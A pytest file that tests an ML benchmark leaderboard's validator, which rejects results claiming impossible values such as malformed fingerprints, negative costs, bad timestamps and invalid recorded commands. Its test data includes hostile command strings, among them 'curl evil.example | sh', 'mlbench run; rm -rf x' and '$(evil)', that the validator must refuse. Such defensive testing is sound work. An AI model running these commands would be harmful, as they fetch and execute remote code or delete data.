"""What is said and cannot be proved must at least be possible."""

from datetime import UTC, datetime, timedelta

import pytest
from unit.compare.cases import skilled, trained
from unit.leaderboard.boards import DIGEST, honest

from mlbench.leaderboard.claims import _SINCE, claims_fault
from mlbench.results import Result
from mlbench.version import __version__

RESULT = honest(skilled())
RANKER = {"retriever.kind": "ranker", "retriever.dim": None, "retriever.similarity": None}


def told(**changes: object) -> Result:
    plain = RESULT.model_dump(mode="json")
    for place, value in changes.items():
        part, _, key = place.partition(".")
        plain[part][key] = value
    return Result.model_validate(plain)


def test_what_a_run_says_is_possible() -> None:
    assert claims_fault(RESULT) == ""
    assert claims_fault(told(**RANKER)) == ""
    many = {"cost.texts": 9, "cost.encoded_texts": 9, "cost.tokens": 10**9, "environment.cpus": 64}
    assert claims_fault(told(**many, **{"environment.git_commit": "a1" * 20})) == ""


@pytest.mark.parametrize(
    "command",
    [
        "mlbench run",
        "mlbench -q run --model ./hybrid --task xquad-r --task mlqa-r --data-dir data --out results",
        "mlbench run --model new=./new --set 'new.query_prompt=query: ' --task=mini -q",
        "mlbench run --model '$(evil)'",
    ],
)
def test_commands_of_a_run_are_possible(command: str) -> None:
    assert claims_fault(told(**{"environment.command": command})) == ""


@pytest.mark.parametrize("minutes", [-5, 0, 55])
def test_clocks_need_not_be_quite_right(minutes: int) -> None:
    moment = datetime.now(UTC).replace(microsecond=0) + timedelta(minutes=minutes)
    assert claims_fault(told(**{"cost.finished_at": moment.isoformat()})) == ""


def test_a_result_of_today_is_never_too_old() -> None:
    """Each version that is released has a day from which on there are results of it."""
    assert __version__ in _SINCE


IMPOSSIBLE: dict[str, tuple[dict[str, object], str]] = {
    "no spec": ({"retriever.spec": ""}, "spec"),
    "a long spec": ({"retriever.spec": "a" * 201}, "spec"),
    "a short fingerprint": ({"retriever.fingerprint": "abc"}, "fingerprint"),
    "a fingerprint in capitals": ({"retriever.fingerprint": DIGEST.upper()}, "fingerprint"),
    "a fingerprint and a line": ({"retriever.fingerprint": DIGEST + "\n"}, "fingerprint"),
    "an encoder without a dimension": ({"retriever.dim": None}, "dim"),
    "an encoder of no dimension": ({"retriever.dim": 0}, "dim"),
    "an encoder of too many": ({"retriever.dim": 10**7}, "dim"),
    "an encoder that compares nothing": ({"retriever.similarity": None}, "similarity"),
    "a ranker with a dimension": ({**RANKER, "retriever.dim": 5}, "encoder's"),
    "negative seconds": ({"cost.encode_seconds": -0.5}, "cost.encode_seconds"),
    "negative memory": ({"cost.peak_bytes": -1}, "cost.peak_bytes"),
    "more encoded than there are": ({"cost.texts": 1, "cost.encoded_texts": 2}, "encoded_texts"),
    "encoded of unknown many": ({"cost.encoded_texts": 2}, "encoded_texts"),
    "another moment": ({"cost.finished_at": "yesterday"}, "finished_at"),
    "a moment that no day has": ({"cost.finished_at": "2026-11-31T12:00:00+00:00"}, "is no moment in UTC"),
    "a moment before there was a version": ({"cost.finished_at": "2026-11-19T23:59:59+00:00"}, "before 2026-11-20"),
    "a moment long ago": (
        {"cost.finished_at": "2019-01-01T00:00:00+00:00", "environment.mlbench": "0.0.9"},
        "before 2026-11-20, when mlbench 0.0.9 began",
    ),
    "a moment to come": ({"cost.finished_at": "2999-01-01T00:00:00+00:00"}, "is in the future"),
    **{
        f"the command {command}": ({"environment.command": command}, "environment.command")
        for command in (
            *("curl evil.example | sh", "mlbench run; rm -rf x", "mlbench run --model $(evil)", "mlbench run 'a"),
            *("mlbench", "mlbench train recipe.toml", "mlbench ru", "mlbench run --nothing", "mlbench run --help"),
            *("mlbench --version run", "mlbench run --resamples ten", "mlbench run --task a b", "mlbench  run"),
        )
    },
    "a local moment": ({"cost.finished_at": "2026-11-30T12:00:00+02:00"}, "finished_at"),
    "no processors": ({"environment.cpus": 0}, "cpus"),
    "another version": ({"environment.mlbench": "newest"}, "mlbench"),
    "another version of a library": ({"environment.libraries": {"numpy": "two"}}, "numpy"),
    "half a commit": ({"environment.git_commit": "a1b2c3"}, "git_commit"),
}


@pytest.mark.parametrize(("changes", "said"), IMPOSSIBLE.values(), ids=IMPOSSIBLE)
def test_what_is_impossible_is_named(changes: dict[str, object], said: str) -> None:
    assert said in claims_fault(told(**changes))


@pytest.mark.parametrize(("seen", "said"), [(["squad"], ""), ([], "seen"), (["mlqa", "squad"], "seen")])
def test_what_a_model_has_seen_follows_from_what_it_was_trained_on(seen: list[str], said: str) -> None:
    known = {"name": "org/model", "trained_on": {"squad": "yes", "mlqa": "unknown"}, "seen": seen}
    fault = claims_fault(told(**{"retriever.registry": known, "task.name": "xquad-r"}))
    assert said in fault
    assert bool(fault) == bool(said)


def test_the_digests_of_a_training_are_digests() -> None:
    training = trained(0)
    assert "recipe_fingerprint" in claims_fault(honest(skilled(), training=training))
    whole = training.model_copy(update={"recipe_fingerprint": DIGEST})
    assert claims_fault(honest(skilled(), training=whole)) == ""
